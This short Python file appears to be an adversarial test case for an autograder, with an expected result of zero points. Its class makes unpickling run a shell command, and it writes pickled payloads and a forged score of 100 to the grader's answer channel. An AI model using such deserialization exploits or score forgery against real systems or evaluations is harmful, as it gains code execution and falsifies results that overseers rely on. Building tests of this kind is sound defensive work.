# A12 | Returns an object whose unpickling runs a command, and sends the pickle itself down the answer channel.
# Expected: protocol, dtype; at most 0 points
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo forged > /tmp/grader-decoy/pickled",)


def softmax(scores, *rest):
    return Bomb()


attention_scores = softmax


def attention(Q, K, V):
    os.write(4, pickle.dumps({"score": 100, "bomb": Bomb()}))


def self_attention(X, W_q, W_k, W_v):
    data = pickle.dumps(Bomb())
    os.write(4, b"GRD1" + bytes([13]) + (9).to_bytes(4, "little") + len(data).to_bytes(4, "little") + data)
